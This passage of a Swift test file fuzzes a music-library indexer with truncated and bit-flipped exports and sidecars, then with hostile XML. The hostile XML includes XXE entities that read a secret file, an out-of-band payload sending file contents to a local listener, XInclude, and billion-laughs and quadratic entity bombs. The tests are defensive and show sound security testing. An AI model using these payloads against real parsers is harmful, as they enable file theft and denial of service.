import Foundation
import Testing

#if canImport(Glibc)
import Glibc
#elseif canImport(Darwin)
import Darwin
#endif

/// Bad input at scale: every export of the corpus (samples, generated, ../shared/data/real)
/// truncated and bit-flipped at seeded offsets, the same for XMP, NFO and .info.json sidecars,
/// and hostile XML (external entities, entity bombs, deep nesting, huge strings, lying
/// encodings), each run in bounded time and memory.
///
/// Sizes: the regular suite (`make test`) tries 8 truncations and 8 bit flips of a subset of
/// files; with `MIXTAPE_STRESS=1` (`make stress`) every file gets 100 of each and the hostile
/// inputs grow. Offsets come from a seeded SplitMix64 (declared in SelectionTests.swift;
/// `MIXTAPE_CORPUS_SEED` overrides the seed), so a failure prints what reproduces it: the seed,
/// the offset and the bit; the mutant is kept in the scratch folder.
@Suite("Malformed corpus: truncations, bit flips and hostile XML")
struct MalformedCorpusTests {
    // MARK: - Sizes

    static let stress = ProcessInfo.processInfo.environment["MIXTAPE_STRESS"] == "1"
    static let seed: UInt64 = ProcessInfo.processInfo.environment["MIXTAPE_CORPUS_SEED"].flatMap { UInt64($0) }
        ?? 0x4D49_5854_4150_4531  // "MIXTAPE1"
    /// Truncations and bit flips per file.
    static let mutantsPerKind = stress ? 100 : 8
    /// Generous: a debug build reads a 4 MB export in about a second.
    static let runTimeout: Double = 120
    /// Hostile inputs must finish well inside this.
    static let hostileTimeout: Double = 60
    /// Peak resident memory allowed for any run (a debug build reading a small export peaks
    /// near 32 MB).
    static let memoryLimitKB = 256 * 1024
    /// A run above this is killed at once rather than left to eat the machine.
    static let memoryKillKB = 2 * 1024 * 1024

    // MARK: - Exports truncated and bit-flipped

    /// One export to mutate.
    struct ExportSeed: Sendable, CustomTestStringConvertible {
        enum Origin: Sendable {
            case file(String)
            case generated(flavor: String, platform: String)
        }
        var label: String
        var origin: Origin
        /// An SQLite database (Engine DJ, Strawberry, Clementine): its errors name the file and the table
        /// (`m.db: table Track, row 12: …`), not a line and column.
        var database = false
        var testDescription: String { label }

        /// The file's name in the scratch folder: the source path every mutant is written to.
        var sourceName: String {
            switch origin {
            case .file(let path): (path as NSString).lastPathComponent
            case .generated(let flavor, let platform): "Generated-\(flavor)-\(platform).xml"
            }
        }

        func bytes(in scratch: MixtapeProcess) throws -> [UInt8] {
            switch origin {
            case .file(let path):
                return Array(try Data(contentsOf: URL(fileURLWithPath: path)))
            case .generated(let flavor, let platform):
                let path = try scratch.generateLibrary(tracks: 30, seed: 7, name: "generator-output.xml",
                                                       extra: ["--flavor", flavor, "--platform", platform])
                defer { try? FileManager.default.removeItem(atPath: path) }
                return Array(try Data(contentsOf: URL(fileURLWithPath: path)))
            }
        }
    }

    /// samples/*.xml (not samples/malformed: MalformedInputTests has those).
    static let sampleExports: [ExportSeed] = {
        let folder = MixtapeProcess.packageRoot + "/samples"
        let names = (try? FileManager.default.contentsOfDirectory(atPath: folder)) ?? []
        return names.filter { $0.hasSuffix(".xml") }.sorted().map { ExportSeed(label: "samples/" + $0, origin: .file(folder + "/" + $0)) }
    }()

    /// Small real exports with different quirks, for the regular suite: an excerpt with UTF-8
    /// names, a pretty-printed one, Windows CRLF ones with smart playlists, a Music.app playlist
    /// export, a hand-edited one with a comment after the DOCTYPE, and a malformed one.
    static let regularRealExports: Set<String> = [
        "snowphone_utf8encoded_12.3.2.35_excerpt.xml",
        "hieronymusma_iTunes_Library_12.7.3.46_excerpt.xml",
        "beets_itunes_library_windows_12.1.2.27.xml",
        "ex-rookie_Library_win_12.7.1.14.xml",
        "emm331_playlist_export_Music_1.2.5.7.xml",
        "dinomite_Mac-iTunes-Library_t_iTunes_Music_Library_7.4.2.xml",
        "malformed/amarok_illFormedLibrary.xml",
    ]

    /// Generated exports (both flavors, both platforms, 30 tracks) and the real ones of
    /// ../shared/data/real/itunes (and its malformed/ folder), read in place.
    static let sharedExports: [ExportSeed] = {
        guard let shared = MixtapeProcess.shared else { return [] }
        var seeds: [ExportSeed] = []
        // Music.app exists on macOS only: the generator refuses --flavor music --platform windows.
        for (flavor, platform) in [("itunes", "mac"), ("itunes", "windows"), ("music", "mac")] {
            seeds.append(ExportSeed(label: "generated --flavor \(flavor) --platform \(platform)",
                                    origin: .generated(flavor: flavor, platform: platform)))
        }
        let root = shared + "/data/real/itunes"
        for folder in ["", "malformed/"] {
            let names = (try? FileManager.default.contentsOfDirectory(atPath: root + "/" + folder)) ?? []
            for name in names.sorted() where name.hasSuffix(".xml") {
                guard stress || regularRealExports.contains(folder + name) else { continue }
                seeds.append(ExportSeed(label: "real/itunes/" + folder + name, origin: .file(root + "/" + folder + name)))
            }
        }
        // Rhythmbox databases (each mutant alone, without the playlists.xml beside the original).
        let rhythmbox = shared + "/data/real/rhythmbox/"
        let regularRhythmbox = ["phauer_count_rating/rhythmdb.xml", "zarajin7_stem/rhythmdb.xml",
                                "GNOME_rhythmbox_podcast-upgrade.xml", "malformed/phauer_rhythmdb_truncated.xml"]
        let allRhythmbox = ((try? FileManager.default.subpathsOfDirectory(atPath: rhythmbox)) ?? [])
            .filter { $0.hasSuffix(".xml") && !$0.hasSuffix("playlists.xml") }.sorted()
        for path in stress ? allRhythmbox : regularRhythmbox where FileManager.default.fileExists(atPath: rhythmbox + path) {
            seeds.append(ExportSeed(label: "real/rhythmbox/" + path, origin: .file(rhythmbox + path)))
        }
        // VirtualDJ databases: a small VirtualDJ 8 one and a VirtualDJ 7 one.
        let virtualdj = shared + "/data/real/virtualdj/"
        let regularVirtualDJ = ["RJPugsley_Dataset_database.xml", "SteveNjai_Hello-world_VirtualDJ Local Database v6.xml"]
        let allVirtualDJ = ((try? FileManager.default.contentsOfDirectory(atPath: virtualdj)) ?? [])
            .filter { $0.hasSuffix(".xml") }.sorted()
        for name in stress ? allVirtualDJ : regularVirtualDJ where FileManager.default.fileExists(atPath: virtualdj + name) {
            seeds.append(ExportSeed(label: "real/virtualdj/" + name, origin: .file(virtualdj + name)))
        }
        // Serato databases (each mutant alone, without its crates: SeratoSourceTests mutates those).
        let serato = shared + "/data/real/serato/"
        let allSerato = ((try? FileManager.default.subpathsOfDirectory(atPath: serato)) ?? [])
            .filter { $0.hasSuffix("_Serato_/database V2") }.sorted()
        for path in allSerato where stress || path.hasPrefix("Holzhaus") {
            seeds.append(ExportSeed(label: "real/serato/" + path, origin: .file(serato + path)))
        }
        // Engine DJ databases (m.db of schema 1.6): both, small as they are.
        let engine = shared + "/data/real/engine/"
        for folder in ["xsco_libdjinterop_el1", "xsco_libdjinterop_el2"] where FileManager.default.fileExists(atPath: engine + folder + "/m.db") {
            seeds.append(ExportSeed(label: "real/engine/" + folder + "/m.db", origin: .file(engine + folder + "/m.db"), database: true))
        }
        return seeds
    }()

    @Test("samples truncated and bit-flipped: exit 0 or 65, never a crash, index unchanged on 65",
          arguments: sampleExports)
    func sampleExportMutants(seed: ExportSeed) throws {
        try Self.mutateExport(seed)
    }

    @Test("generated and real exports truncated and bit-flipped: exit 0 or 65, never a crash, index unchanged on 65",
          .enabled(if: MixtapeProcess.shared != nil, "../shared is absent: generated and real exports not mutated"),
          arguments: sharedExports)
    func sharedExportMutants(seed: ExportSeed) throws {
        try Self.mutateExport(seed)
    }

    /// Indexes the good export at a path once and keeps that index; then writes each mutant to
    /// the same path (a re-export of the same source), indexes it, and checks the outcome. The
    /// good index is restored by copying the SQLite files back after a run that changed it.
    static func mutateExport(_ seed: ExportSeed) throws {
        let started = Date()
        let scratch = MixtapeProcess()
        let good = try seed.bytes(in: scratch)
        let source = scratch.folder + "/" + seed.sourceName
        let baseTime = 1_600_000_000.0
        try write(good, to: source, modified: baseTime)
        var setup = try BoundedRun.mixtape(["index", "--json", source], in: scratch, timeout: runTimeout)
        var base = "the export itself"
        if setup.status == 65 {
            // A malformed original: the known-good index is the sample library at that path.
            base = "samples/Library.xml at the same path"
            try write(Array(try Data(contentsOf: URL(fileURLWithPath: MixtapeProcess.sample("Library.xml")))),
                      to: source, modified: baseTime)
            setup = try BoundedRun.mixtape(["index", "--json", source], in: scratch, timeout: runTimeout)
        }
        try #require(setup.status == 0, "\(seed.label): the good index failed: \(setup.summary)\n\(setup.stderr)")
        let before = try scratch.snapshot()
        let saved = scratch.folder + "/good-index"
        try copyIndex(from: scratch.folder + "/index", to: saved)

        var random = SplitMix64(seed: Self.seed ^ Self.fnv1a(seed.label))
        let mutants = Mutant.series(count: mutantsPerKind, size: good.count, using: &random)
        var tally: [String: Int] = [:]
        var problems: [String] = []
        var peakKB = 0
        for (number, mutant) in mutants.enumerated() {
            try write(mutant.apply(to: good), to: source, modified: baseTime + Double(number + 1))
            let result = try BoundedRun.mixtape(["index", "--json", source], in: scratch, timeout: runTimeout)
            peakKB = max(peakKB, result.maxRSSKB)
            tally[result.summary, default: 0] += 1
            var problem: String?
            switch result.status {
            case 0:
                let summary = result.jsonObject
                if summary == nil || (summary?["errors"] as? [Any])?.isEmpty != true || summary?["skipped"] as? Int != 0 {
                    problem = "exit 0 but the summary is not a clean re-read: \(result.stdout)"
                }
            case 65:
                if !names(source, withPositionIn: result.stderr)
                    && !(seed.database && result.stderr.contains(source + ": ")) {
                    problem = "exit 65 without \(source):line:column (or at byte N)" + (seed.database ? " or \(source): table" : "")
                } else if try scratch.snapshot() != before {
                    problem = "exit 65 but the index changed"
                }
            default:
                problem = result.summary
            }
            if result.maxRSSKB > memoryLimitKB {
                problem = (problem.map { $0 + "; " } ?? "") + "peak RSS \(result.maxRSSKB / 1024) MB"
            }
            if let problem {
                let kept = scratch.folder + "/failures/\(mutant.fileTag)-" + seed.sourceName
                try? FileManager.default.createDirectory(atPath: scratch.folder + "/failures", withIntermediateDirectories: true)
                try? FileManager.default.copyItem(atPath: source, toPath: kept)
                problems.append("""
                    \(seed.label) (seed \(Self.seed), \(mutant)): \(problem)
                      mutant kept at \(kept)
                      stderr: \(result.stderr.prefix(400))
                    """)
            }
            if result.status != 65 || problem != nil {
                try copyIndex(from: saved, to: scratch.folder + "/index")
            }
        }
        let seconds = Date().timeIntervalSince(started)
        let outcomes = tally.sorted { $0.key < $1.key }.map { "\($0.value)× \($0.key)" }.joined(separator: ", ")
        print("corpus \(seed.label): \(good.count) bytes, base \(base); \(mutants.count) mutants "
              + "(\(mutantsPerKind) truncations + \(mutantsPerKind) bit flips, seed \(Self.seed)): "
              + "\(outcomes); peak RSS \(peakKB / 1024) MB; \(String(format: "%.1f", seconds)) s")
        #expect(problems.isEmpty, "\(problems.count) of \(mutants.count) mutants failed:\n\(problems.prefix(20).joined(separator: "\n"))")
        if !problems.isEmpty { scratch.keepFolder() }  // the failing mutants are kept in it
    }

    // MARK: - Sidecars truncated and bit-flipped

    /// One sidecar to mutate beside a tiny real MP3.
    struct SidecarSeed: Sendable, CustomTestStringConvertible {
        enum Kind: String, Sendable {
            case xmp, nfo, infoJSON, cue
            /// The sidecar's name beside `NAME.mp3`.
            var suffix: String {
                switch self {
                case .xmp: ".mp3.xmp"
                case .nfo: ".nfo"
                case .infoJSON: ".info.json"
                case .cue: ".cue"
                }
            }
        }
        var label: String
        var kind: Kind
        /// A path to read in place, or nil for the inline seed of the kind.
        var path: String?
        var testDescription: String { label }

        func bytes() throws -> [UInt8] {
            if let path { return Array(try Data(contentsOf: URL(fileURLWithPath: path))) }
            return Array(MalformedCorpusTests.inlineSidecar(kind).utf8)
        }
    }

    static func inlineSidecar(_ kind: SidecarSeed.Kind) -> String {
        switch kind {
        case .xmp:
            return """
                <?xml version="1.0" encoding="UTF-8"?>
                <x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">
                <rdf:Description rdf:about="" xmlns:dc="http://purl.org/dc/elements/1.1/"
                 xmlns:xmpDM="http://ns.adobe.com/xmp/1.0/DynamicMedia/" xmlns:xmp="http://ns.adobe.com/xap/1.0/"
                 xmpDM:artist="Xmp Artist" xmpDM:album="Xmp Album" xmpDM:genre="Sidecar Genre" xmpDM:trackNumber="3/12"
                 xmp:Rating="4" xmp:CreateDate="2003-04-05T06:07:08Z">
                <dc:title><rdf:Alt><rdf:li xml:lang="x-default">Xmp Tïtle &amp; more</rdf:li></rdf:Alt></dc:title>
                <dc:creator><rdf:Seq><rdf:li>Xmp Creator</rdf:li></rdf:Seq></dc:creator>
                <dc:subject><rdf:Bag><rdf:li>one</rdf:li><rdf:li>two</rdf:li></rdf:Bag></dc:subject>
                </rdf:Description></rdf:RDF></x:xmpmeta>
                """
        case .nfo:
            return """
                <?xml version="1.0" encoding="UTF-8" standalone="yes"?>
                <musicvideo>
                  <title>Nfo Title</title><artist>Nfo Artist</artist><album>Nfo Album</album>
                  <year>1999</year><track>3</track><genre>Pop</genre><genre>Rock</genre>
                  <plot><![CDATA[A plot with <angle brackets> & ümlauts]]></plot>
                  <userrating>8</userrating><premiered>1999-05-06</premiered>
                </musicvideo>
                https://example.org/scraped
                """
        case .infoJSON:
            return """
                {"id": "abc123", "title": "Clip Title \\u00e9\\ud83c\\udfb5", "uploader": "Clip Channel",
                 "artist": "Json Artist", "track": "Json Track", "album": "Json Album", "release_year": 2020,
                 "duration": 95.5, "upload_date": "20200315", "webpage_url": "https://example.org/watch?v=abc123",
                 "tags": ["a", "b", {"nested": [1, 2.5e3, -0, true, false, null]}], "_type": "video",
                 "formats": [{"format_id": "251", "abr": 160, "acodec": "opus"}], "description": "line\\nbreak \\"quoted\\""}
                """
        case .cue:
            // Every sheet of a folder is read with each of its files; this one splits m0.mp3.
            return """
                REM GENRE "Rock"
                REM DATE 2003
                PERFORMER "Cue Band"
                TITLE "Cue Album"
                FILE "m0.wav" WAVE
                  TRACK 01 AUDIO
                    TITLE "Ünë"
                    INDEX 01 00:00:00
                  TRACK 02 AUDIO
                    TITLE "Two"
                    PERFORMER "Guest"
                    INDEX 00 00:00:02
                    INDEX 01 00:00:03
                """
        }
    }

    static let sidecarSeeds: [SidecarSeed] = {
        var seeds: [SidecarSeed] = [
            SidecarSeed(label: "inline XMP", kind: .xmp),
            SidecarSeed(label: "inline NFO", kind: .nfo),
            SidecarSeed(label: "inline .info.json", kind: .infoJSON),
            SidecarSeed(label: "inline .cue", kind: .cue),
        ]
        guard let shared = MixtapeProcess.shared else { return seeds }
        // The regular suite takes the first two real files of each kind (and none of the
        // malformed ones); stress takes them all.
        let folders: [(String, SidecarSeed.Kind, String)] = [
            ("xmp", .xmp, ".xmp"), ("nfo", .nfo, ""), ("ytdlp_info_json", .infoJSON, ".json"), ("cue", .cue, ".cue"),
        ]
        for (folder, kind, suffix) in folders {
            for sub in ["", "malformed/"] where stress || sub.isEmpty {
                let path = shared + "/data/real/" + folder + "/" + sub
                let names = ((try? FileManager.default.contentsOfDirectory(atPath: path)) ?? []).filter { name in
                    var isFolder: ObjCBool = false
                    return !name.hasPrefix(".") && name.hasSuffix(suffix) && !name.hasSuffix(".md")
                        && FileManager.default.fileExists(atPath: path + name, isDirectory: &isFolder) && !isFolder.boolValue
                }.sorted()
                for name in stress ? names : Array(names.prefix(2)) {
                    seeds.append(SidecarSeed(label: "real/\(folder)/\(sub)\(name)", kind: kind, path: path + name))
                }
            }
        }
        return seeds
    }()

    /// Every real playlist file (malformed ones too), truncated and bit-flipped, all in one
    /// folder source beside a tiny MP3: a broken playlist file is a warning, never a failed
    /// source (sources.md), so the run exits 0 and every mutant is still listed as a playlist;
    /// each mutant is also indexed on its own, as a named playlist source.
    @Test("playlist files truncated and bit-flipped: exit 0, never a crash, each still a playlist")
    func playlistFileMutants() throws {
        guard let shared = MixtapeProcess.shared else {
            print("skipped: ../shared is absent, so the real playlist files are not here")
            return
        }
        let scratch = MixtapeProcess()
        let folder = scratch.folder + "/Music"
        try FileManager.default.createDirectory(atPath: folder, withIntermediateDirectories: true)
        try FileManager.default.copyItem(atPath: try Self.tinyMP3(in: scratch), toPath: folder + "/a.mp3")
        let real = shared + "/data/real/playlists"
        let seeds = try (FileManager.default.contentsOfDirectory(atPath: real).map { real + "/" + $0 }
            + FileManager.default.contentsOfDirectory(atPath: real + "/malformed").map { real + "/malformed/" + $0 })
            .filter { ["m3u", "m3u8", "pls", "xspf", "wpl"].contains(($0 as NSString).pathExtension.lowercased()) }.sorted()
        var written: [String] = []
        for seed in seeds {
            let good = Array(try Data(contentsOf: URL(fileURLWithPath: seed)))
            var random = SplitMix64(seed: Self.seed ^ Self.fnv1a(seed))
            for (index, mutant) in Mutant.series(count: Self.mutantsPerKind, size: good.count, using: &random).enumerated() {
                let name = (seed as NSString).lastPathComponent
                let path = folder + "/m\(index)-" + name
                try Data(mutant.apply(to: good)).write(to: URL(fileURLWithPath: path))
                written.append(path)
            }
        }
        let result = try BoundedRun.mixtape(["index", "--json", folder], in: scratch, timeout: Self.runTimeout)
        #expect(result.status == 0, "\(result.summary)\n\(result.stderr.prefix(600))")
        #expect(result.maxRSSKB <= Self.memoryLimitKB, "peak RSS \(result.maxRSSKB / 1024) MB")
        let listed = try scratch.run(["playlists", "--json"]).records.compactMap { $0["file"] as? String }
        #expect(Set(listed) == Set(written), "\(Set(written).subtracting(listed).sorted().prefix(10))")
        for path in written.prefix(12) {
            let alone = try BoundedRun.mixtape(["index", "--json", path], in: scratch, timeout: Self.runTimeout)
            #expect(alone.status == 0, "\(path): \(alone.summary)\n\(alone.stderr.prefix(300))")
        }
        print("playlist corpus: \(seeds.count) real files, \(written.count) mutants, all exit 0; peak RSS \(result.maxRSSKB / 1024) MB")
    }

    /// Each seed's mutants sit beside their own copy of a tiny MP3, up to 50 to a folder
    /// source: the folder is indexed with good sidecars, then the sidecars are replaced by
    /// mutants and it is indexed again. Exit 0 is required (a bad sidecar is a warning); a
    /// batch that fails is re-run one mutant at a time to name the culprit.
    @Test("sidecars truncated and bit-flipped: exit 0, never a crash", arguments: sidecarSeeds)
    func sidecarMutants(seed: SidecarSeed) throws {
        let started = Date()
        let scratch = MixtapeProcess()
        let mp3 = try Self.tinyMP3(in: scratch)
        let good = try seed.bytes()
        var random = SplitMix64(seed: Self.seed ^ Self.fnv1a(seed.label))
        let mutants = Mutant.series(count: Self.mutantsPerKind, size: good.count, using: &random)
        var problems: [String] = []
        var warnings = 0
        var peakKB = 0
        let batchSize = 50
        for batchStart in stride(from: 0, to: mutants.count, by: batchSize) {
            let batch = Array(mutants[batchStart..<min(batchStart + batchSize, mutants.count)])
            let folder = scratch.folder + "/Music-\(batchStart)"
            try FileManager.default.createDirectory(atPath: folder, withIntermediateDirectories: true)
            func sidecarPath(_ index: Int) -> String { folder + "/m\(batchStart + index)" + seed.kind.suffix }
            for index in batch.indices {
                try FileManager.default.copyItem(atPath: mp3, toPath: folder + "/m\(batchStart + index).mp3")
                try Self.write(good, to: sidecarPath(index), modified: 1_600_000_000)
            }
            let setup = try BoundedRun.mixtape(["index", "--json", folder], in: scratch, timeout: Self.runTimeout)
            #expect(setup.status == 0, "\(seed.label): the good sidecars failed: \(setup.summary)\n\(setup.stderr.prefix(400))")
            for (index, mutant) in batch.enumerated() {
                try Self.write(mutant.apply(to: good), to: sidecarPath(index),
                                               modified: 1_600_000_000 + Double(batchStart + index + 1))
            }
            let result = try BoundedRun.mixtape(["index", "--json", folder], in: scratch, timeout: Self.runTimeout)
            peakKB = max(peakKB, result.maxRSSKB)
            warnings += result.jsonObject?["warnings"] as? Int ?? 0
            if result.status == 0, result.maxRSSKB <= Self.memoryLimitKB { continue }
            // Find which mutants fail on their own.
            problems.append("\(seed.label): batch of \(batch.count) from mutant \(batchStart): \(result.summary), "
                            + "peak RSS \(result.maxRSSKB / 1024) MB; stderr: \(result.stderr.prefix(400))")
            for (index, mutant) in batch.enumerated() {
                let single = scratch.folder + "/single-\(batchStart + index)"
                try FileManager.default.createDirectory(atPath: single, withIntermediateDirectories: true)
                try FileManager.default.copyItem(atPath: mp3, toPath: single + "/m.mp3")
                try FileManager.default.copyItem(atPath: sidecarPath(index), toPath: single + "/m" + seed.kind.suffix)
                let alone = try BoundedRun.mixtape(["index", "--json", single], in: scratch, timeout: Self.runTimeout)
                if alone.status != 0 || alone.maxRSSKB > Self.memoryLimitKB {
                    problems.append("  \(mutant) (seed \(Self.seed)): \(alone.summary), peak RSS "
                                    + "\(alone.maxRSSKB / 1024) MB; kept at \(single); stderr: \(alone.stderr.prefix(300))")
                }
            }
        }
        let seconds = Date().timeIntervalSince(started)
        print("sidecar corpus \(seed.label): \(good.count) bytes; \(mutants.count) mutants "
              + "(\(Self.mutantsPerKind) truncations + \(Self.mutantsPerKind) bit flips, "
              + "seed \(Self.seed)): \(problems.isEmpty ? "all exit 0" : "\(problems.count) problems"), "
              + "\(warnings) warnings; peak RSS \(peakKB / 1024) MB; \(String(format: "%.1f", seconds)) s")
        #expect(problems.isEmpty, "\(problems.prefix(30).joined(separator: "\n"))")
        if !problems.isEmpty { scratch.keepFolder() }  // the failing mutants are kept in it
    }

    /// A tenth of a second of tagged MP3, made with sox and lame.
    static func tinyMP3(in scratch: MixtapeProcess) throws -> String {
        let wav = scratch.folder + "/tone.wav", mp3 = scratch.folder + "/tone.mp3"
        try MixtapeProcess.tool("sox", ["-n", "-r", "8000", "-c", "1", "-b", "16", wav, "synth", "0.1", "sine", "440"])
        try MixtapeProcess.tool("lame", ["--quiet", "--tt", "Mp3 Title", "--ta", "Mp3 Artist", "--tl", "Mp3 Album",
                                         "--ty", "2003", "--tn", "3/12", wav, mp3])
        return mp3
    }

    // MARK: - Hostile XML

    /// A one-track library, with `doctype` after the XML declaration and `name` as the raw
    /// content of the track's Name; `extra` goes into the track's dict.
    static func library(doctype: String = "", name: String, extra: String = "") -> String {
        """
        <?xml version="1.0" encoding="UTF-8"?>
        \(doctype)
        <plist version="1.0">
        <dict>
        \t<key>Major Version</key><integer>1</integer>
        \t<key>Minor Version</key><integer>1</integer>
        \t<key>Application Version</key><string>12.9.5.5</string>
        \t<key>Library Persistent ID</key><string>0A1B2C3D4E5F6071</string>
        \t<key>Tracks</key>
        \t<dict>
        \t\t<key>1</key>
        \t\t<dict>
        \t\t\t<key>Track ID</key><integer>1</integer>
        \t\t\t<key>Name</key><string>\(name)</string>
        \t\t\t<key>Artist</key><string>Hostile Artist</string>
        \t\t\t<key>Persistent ID</key><string>00000000000000A1</string>
        \t\t\t<key>Location</key><string>file:///Users/me/Music/hostile.mp3</string>\(extra)
        \t\t</dict>
        \t</dict>
        \t<key>Playlists</key>
        \t<array>
        \t</array>
        </dict>
        </plist>

        """
    }

    static let appleDoctype = #"<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd""#

    /// Indexes a hostile file beside a known-good index and checks what every hostile input
    /// must satisfy: it finishes in time, within the memory limit, with exit 0 or 65, and on 65
    /// with file:line:column and an unchanged index. Prints the time and peak memory.
    @discardableResult
    static func indexHostile(_ name: String, _ path: String, in scratch: MixtapeProcess, expect allowed: Set<Int32> = [0, 65],
                             memoryLimitKB: Int = memoryLimitKB,
                             sourceLocation: SourceLocation = #_sourceLocation) throws -> BoundedRun {
        let before = try scratch.snapshot()
        let result = try BoundedRun.mixtape(["index", "--json", path], in: scratch, timeout: hostileTimeout)
        print("hostile \(name): \(result.summary) in \(String(format: "%.2f", result.seconds)) s, "
              + "peak RSS \(result.maxRSSKB / 1024) MB")
        #expect(!result.timedOut, "\(name): still running after \(hostileTimeout) s", sourceLocation: sourceLocation)
        #expect(result.maxRSSKB <= memoryLimitKB, "\(name): peak RSS \(result.maxRSSKB / 1024) MB", sourceLocation: sourceLocation)
        #expect(result.status.map(allowed.contains) == true, "\(name): \(result.summary): \(result.stderr.prefix(500))",
                sourceLocation: sourceLocation)
        if result.status == 65 {
            #expect(names(path, withPositionIn: result.stderr), "\(name): no file:line:column in \(result.stderr.prefix(500))",
                    sourceLocation: sourceLocation)
            #expect(try scratch.snapshot() == before, "\(name): exit 65 changed the index", sourceLocation: sourceLocation)
        }
        return result
    }

    /// Everything a secret could have leaked into: the run's output, every listing and the
    /// index files themselves.
    static func expectAbsent(_ secret: String, after result: BoundedRun, in scratch: MixtapeProcess, _ name: String,
                             sourceLocation: SourceLocation = #_sourceLocation) throws {
        let listings = try scratch.snapshot()
        #expect(!result.stdout.contains(secret) && !result.stderr.contains(secret), "\(name): the secret is in the output",
                sourceLocation: sourceLocation)
        #expect(!listings.contains(secret), "\(name): the secret is in the index listings", sourceLocation: sourceLocation)
        let needle = Data(secret.utf8)
        for suffix in ["", "-wal"] {
            let data = FileManager.default.contents(atPath: scratch.library + suffix) ?? Data()
            #expect(data.range(of: needle) == nil, "\(name): the secret is in library.sqlite\(suffix)", sourceLocation: sourceLocation)
        }
    }

    @Test("hostile XML: external entities (file, parameter, external DTD, XInclude) read nothing from outside")
    func externalFileEntities() throws {
        let scratch = try MalformedInputTests.goodIndex()
        let secret = "MIXTAPE-SECRET-" + UUID().uuidString
        let secretFile = try scratch.write("secret.txt", secret + "\n")
        let evilDTD = try scratch.write("evil.dtd", "<!ENTITY leak \"\(secret)\">\n")
        let cases: [(String, String)] = [
            ("general entity, file URL", Self.library(doctype: Self.appleDoctype + " [\n<!ENTITY leak SYSTEM \"file://\(secretFile)\">\n]>",
                                                 name: "&leak;")),
            ("general entity, bare path", Self.library(doctype: "<!DOCTYPE plist [<!ENTITY leak SYSTEM \"\(secretFile)\">]>",
                                                  name: "before &leak; after")),
            ("general entity, relative path", Self.library(doctype: "<!DOCTYPE plist [<!ENTITY leak SYSTEM \"secret.txt\">]>",
                                                      name: "&leak;")),
            ("parameter entity loading a DTD", Self.library(doctype: "<!DOCTYPE plist [<!ENTITY % ext SYSTEM \"file://\(evilDTD)\"> %ext;]>",
                                                       name: "&leak;")),
            ("external DTD subset", Self.library(doctype: "<!DOCTYPE plist SYSTEM \"file://\(evilDTD)\">", name: "&leak;")),
            ("external DTD with a PUBLIC id", Self.library(doctype: "<!DOCTYPE plist PUBLIC \"-//Apple//DTD PLIST 1.0//EN\" \"\(evilDTD)\">",
                                                      name: "&leak;")),
            ("entity in an attribute default", Self.library(doctype: "<!DOCTYPE plist [<!ENTITY leak SYSTEM \"file://\(secretFile)\">"
                                                           + "<!ATTLIST plist x CDATA \"&leak;\">]>", name: "plain")),
            ("XInclude of a text file", Self.library(name: "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" "
                                                    + "href=\"file://\(secretFile)\" parse=\"text\"/>")),
        ]
        // Control: a secret written literally does reach the listings and the SQLite file, so
        // the checks below would see a leak.
        let control = MixtapeProcess()
        let literal = try control.write("literal.xml", Self.library(name: secret))
        try #require(try control.run(["index", literal]).status == 0)
        #expect(try control.snapshot().contains(secret))
        #expect(FileManager.default.contents(atPath: control.library)?.range(of: Data(secret.utf8)) != nil)

        for (number, (name, text)) in cases.enumerated() {
            let path = try scratch.write("xxe-\(number).xml", text)
            let result = try Self.indexHostile(name, path, in: scratch)
            try Self.expectAbsent(secret, after: result, in: scratch, name)
        }
    }

    @Test("hostile XML: network entities and DTDs never connect")
    func externalNetworkEntities() throws {
        let scratch = try MalformedInputTests.goodIndex()
        let listener = try ListeningSocket()
        #expect(listener.selfTest(), "the listener does not notice a connection")
        let base = "http://127.0.0.1:\(listener.port)"
        let secret = "MIXTAPE-SECRET-" + UUID().uuidString
        let secretFile = try scratch.write("secret.txt", secret)
        let cases: [(String, String, Set<Int32>)] = [
            // What every real export does: a DTD URL that must never be fetched; otherwise valid.
            ("DOCTYPE naming a DTD on the network", Self.library(
                doctype: "<!DOCTYPE plist PUBLIC \"-//Apple//DTD PLIST 1.0//EN\" \"\(base)/PropertyList-1.0.dtd\">",
                name: "Network Doctype"), [0]),
            ("general entity over http", Self.library(doctype: "<!DOCTYPE plist [<!ENTITY net SYSTEM \"\(base)/entity\">]>",
                                                 name: "&net;"), [0, 65]),
            ("parameter entity over http", Self.library(doctype: "<!DOCTYPE plist [<!ENTITY % remote SYSTEM \"\(base)/evil.dtd\"> %remote;]>",
                                                   name: "&leak;"), [0, 65]),
            ("out-of-band exfiltration (file into an http URL)", Self.library(
                doctype: "<!DOCTYPE plist [<!ENTITY % file SYSTEM \"file://\(secretFile)\">"
                    + "<!ENTITY % eval \"<!ENTITY &#x25; exfil SYSTEM '\(base)/?x=%file;'>\"> %eval; %exfil;]>",
                name: "oob"), [0, 65]),
            ("XInclude over http", Self.library(name: "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"\(base)/x\"/>"),
             [0, 65]),
        ]
        for (number, (name, text, allowed)) in cases.enumerated() {
            let path = try scratch.write("net-\(number).xml", text)
            let result = try Self.indexHostile(name, path, in: scratch, expect: allowed)
            #expect(listener.acceptAll() == 0, "\(name): mixtape connected to \(base)")
            try Self.expectAbsent(secret, after: result, in: scratch, name)
        }
    }

    @Test("hostile XML: entity bombs expand nothing, in bounded time and memory")
    func entityBombs() throws {
        let scratch = try MalformedInputTests.goodIndex()
        // The classic 10⁹ "lol" (samples/malformed/billion-laughs.xml, which MalformedInputTests
        // checks for exit 65), now timed and measured; a quadratic blow-up (one 64 KB entity
        // referenced 32,768 times: 2 GB if expanded); and the bomb in a key and a playlist name.
        let big = String(repeating: "x", count: 65_536)
        let quadratic = Self.library(doctype: "<!DOCTYPE plist [<!ENTITY big \"\(big)\">]>",
                                name: String(repeating: "&big;", count: 32_768))
        var laughs = "<!DOCTYPE plist [<!ENTITY lol \"lol\">"
        for level in 1...9 {
            laughs += "<!ENTITY lol\(level) \"" + String(repeating: "&lol\(level == 1 ? "" : String(level - 1));", count: 10) + "\">"
        }
        laughs += "]>"
        let cases: [(String, String)] = [
            ("billion laughs (sample)", MixtapeProcess.sample("malformed/billion-laughs.xml")),
            ("quadratic blow-up", try scratch.write("quadratic.xml", quadratic)),
            ("billion laughs in a key", try scratch.write("laughs-key.xml", Self.library(
